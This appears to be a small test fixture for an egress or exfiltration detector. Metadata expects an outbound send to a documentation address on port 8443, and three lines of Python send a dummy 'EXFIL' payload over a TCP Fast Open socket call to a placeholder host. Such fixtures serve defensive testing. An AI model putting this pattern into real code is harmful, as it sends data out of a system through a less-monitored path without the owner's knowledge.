#: {"class": "egress", "loader": "script", "expect": [["connect|sendto|send", "203\\.0\\.113\\.7:8443"]], "effect": {"sink": ["tfo", "EXFIL"]}}
import socket
s = socket.socket(); s.sendto(b"EXFIL", 0x20000000, (EXT, 8443)); s.close()
